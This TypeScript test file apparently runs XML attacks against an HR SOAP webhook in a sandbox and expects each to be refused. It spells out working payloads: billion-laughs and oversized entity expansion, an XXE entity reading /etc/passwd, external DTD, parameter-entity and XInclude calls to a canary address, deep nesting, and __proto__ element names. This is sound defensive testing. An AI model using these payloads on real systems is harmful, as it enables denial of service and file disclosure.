import { send } from '../integration/stack/calls';
import { attacksOn } from './attack';
import type { AttackedStack } from './attacked-stack';
import { bodyOfJoiner, isTaken } from './attempts';
import type { Control } from './control';
import { hrPosting } from '../../sandbox/vendors/vendor-posting';

const SOURCE = 'successfactors-soap';
const PATIENCE_MS = 3_000;

async function postXml(
  app: AttackedStack,
  change: (xml: string) => string,
): Promise<Readonly<{ status: number; text: string; tookMs: number }>> {
  const { vendors } = app.stack;
  const posting = await hrPosting(
    SOURCE,
    { kind: 'joiner', email: app.person(), attributes: { department: 'Automation' } },
    { hrApiUrl: vendors.hrApiUrl, secret: vendors.secrets[SOURCE] ?? '' },
  );
  const startedAtMs = performance.now();
  const { status, text } = await send(`${vendors.webhooksUrl}/hr/${SOURCE}`, {
    method: 'POST',
    headers: posting.headers,
    pieces: [change(posting.body)],
  });
  return { status, text, tookMs: performance.now() - startedAtMs };
}

const xmlControl: Control = {
  id: 'an event in XML',
  says: 'An event of the HR system in XML is taken',
  works: async (target) => isTaken(await postXml(await target.app(), (xml) => xml)),
};

/** The body with a document type in front. */
const withDoctype = (doctype: string, use = ''): ((xml: string) => string) => {
  return (xml) => {
    const start = xml.indexOf('?>') + 2;
    const [before, after] = xml.startsWith('<?xml') ? [xml.slice(0, start), xml.slice(start)] : ['', xml];
    return `${before}<!DOCTYPE r [${doctype}]>${after.replace(/>([^<>]+)</, `>${use}$1<`)}`;
  };
};

const laughs = Array.from({ length: 12 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join(
  '',
);

/** Whether a document cost more than a sender waits, or was taken with what it defines. */
async function isCostly(app: AttackedStack, change: (xml: string) => string): Promise<boolean> {
  const answer = await postXml(app, change);
  const other = await app.sayHr(bodyOfJoiner(app.person()));
  return answer.tookMs > PATIENCE_MS || isTaken(answer) || !isTaken(other);
}

/** Documents that define what they say, from an authentic sender. */
export const xmlAttacks = attacksOn('sender', xmlControl, [
  {
    id: 'xml-entities-that-multiply',
    tries: 'Defines entities that stand for ten others each, twelve deep',
    must: 'It is refused at once',
    alone: true,
    run: async (target) => isCostly(await target.app(), withDoctype(`<!ENTITY l0 "lol">${laughs}`, '&l12;')),
  },
  {
    id: 'xml-entity-that-is-large',
    tries: 'Defines one entity of fifty kilobytes and uses it five thousand times',
    must: 'It is refused at once',
    alone: true,
    run: async (target) =>
      isCostly(await target.app(), withDoctype(`<!ENTITY x "${'x'.repeat(50_000)}">`, '&x;'.repeat(5_000))),
  },
  {
    id: 'xml-entity-of-a-file',
    tries: 'Has a file of the machine stand in the document (XXE)',
    must: 'It is refused, and no answer has anything of the file',
    run: async (target) => {
      const answer = await postXml(
        await target.app(),
        withDoctype('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'),
      );
      return isTaken(answer) || answer.text.includes('root:');
    },
  },
  {
    id: 'xml-entity-of-an-address',
    tries: 'Has the document be read on from an address of the attacker, as an entity, a DTD and an include',
    must: 'The address is not called',
    run: async (target) => {
      const app = await target.app();
      const at = `${app.canary.url}/xml`;
      await postXml(app, withDoctype(`<!ENTITY x SYSTEM "${at}/entity">`, '&x;'));
      await postXml(app, withDoctype(`<!ENTITY % p SYSTEM "${at}/parameter"> %p;`));
      await postXml(app, (xml) =>
        xml.replace(
          /<(\w+:)?Envelope/,
          `<!DOCTYPE r SYSTEM "${at}/dtd"><$1Envelope xmlns:xi="http://www.w3.org/2001/XInclude"`,
        ),
      );
      await postXml(app, (xml) =>
        xml.replace(
          />([^<>]+)</,
          `><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${at}/include"/>$1<`,
        ),
      );
      await app.settle();
      return app.canary.heard('/xml');
    },
  },
  {
    id: 'xml-nested-deep',
    tries: 'Opens fifty thousand elements',
    must: 'It is refused at once',
    alone: true,
    run: async (target) =>
      isCostly(await target.app(), () => `${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}`),
  },
  {
    id: 'xml-name-of-the-prototype',
    tries: 'Names elements `__proto__` and `constructor`',
    must: 'It is refused, and others are answered as before',
    alone: true,
    run: async (target) =>
      isCostly(await target.app(), () => '<__proto__><polluted>1</polluted></__proto__>'),
  },
]);
